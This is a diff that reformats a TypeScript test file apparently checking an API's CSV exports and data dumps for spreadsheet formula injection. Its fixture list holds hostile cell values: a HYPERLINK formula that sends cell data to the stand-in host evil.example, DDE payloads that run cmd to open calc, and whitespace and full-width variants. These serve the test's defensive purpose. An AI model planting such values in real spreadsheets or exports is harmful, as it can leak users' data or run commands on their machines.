@@ -20,7 +20,17 @@ import { seedApiData } from './test-support/seed-api-data';
 vi.mock('next/server', async (importOriginal) => ({ ...(await importOriginal<typeof import('next/server')>()), connection: async () => {} }));
 
 const NOW = Date.now();
-const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '  =1+1', '＝1+1', '＠SUM(A1)'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '＝1+1',
+  '＠SUM(A1)',
+];
 let t: TestDatabase;
 let server: { baseUrl: string; close: () => Promise<void> };
 let endpointId: number;
@@ -36,7 +46,11 @@ beforeAll(async () => {
   const seeded = await seedApiData({ now: NOW, days: 16 });
   t = seeded.t;
   const week = lastCompleteWeek(new Date(NOW));
-  const [ep] = await t.db.select({ id: endpoints.id, providerId: endpoints.providerId }).from(endpoints).where(eq(endpoints.id, seeded.endpointIds[0]!)).limit(1);
+  const [ep] = await t.db
+    .select({ id: endpoints.id, providerId: endpoints.providerId })
+    .from(endpoints)
+    .where(eq(endpoints.id, seeded.endpointIds[0]!))
+    .limit(1);
   endpointId = ep!.id;
   // Hostile text where providers control it: answers, error messages, their name.
   const rows = await t.db
@@ -46,7 +60,10 @@ beforeAll(async () => {
     .limit(HOSTILE.length * 2);
   for (let i = 0; i < rows.length; i++) {
     const text = HOSTILE[i % HOSTILE.length]!;
-    await t.db.update(measurements).set(i % 2 ? { errorMessage: text } : { answerText: text }).where(eq(measurements.id, rows[i]!.id));
+    await t.db
+      .update(measurements)
+      .set(i % 2 ? { errorMessage: text } : { answerText: text })
+      .where(eq(measurements.id, rows[i]!.id));
   }
   await t.db.update(providers).set({ name: '=HYPERLINK("http://evil.example","Groq")' }).where(eq(providers.id, ep!.providerId));
   await writeDump(t.db, week);
@@ -69,7 +86,11 @@ describe('formula injection in CSV answers and dumps', () => {
     const list = (await (await fetch(`${server.baseUrl}/api/v1/dumps`)).json()) as { items: Array<{ url: string }> };
     const dump = gunzipSync(Buffer.from(await (await fetch(`${server.baseUrl}${list.items[0]!.url}`)).arrayBuffer())).toString('utf8');
     const answers: Record<string, string> = {
-      measurements: await (await fetch(`${server.baseUrl}/api/v1/endpoints/${endpointId}/measurements.csv?limit=5000&since=${week.fromAt.toISOString()}&until=${week.untilAt.toISOString()}`)).text(),
+      measurements: await (
+        await fetch(
+          `${server.baseUrl}/api/v1/endpoints/${endpointId}/measurements.csv?limit=5000&since=${week.fromAt.toISOString()}&until=${week.untilAt.toISOString()}`,
+        )
+      ).text(),
       endpoints: await (await fetch(`${server.baseUrl}/api/v1/endpoints.csv`)).text(),
       providers: await (await fetch(`${server.baseUrl}/api/v1/providers.csv`)).text(),
       dump,
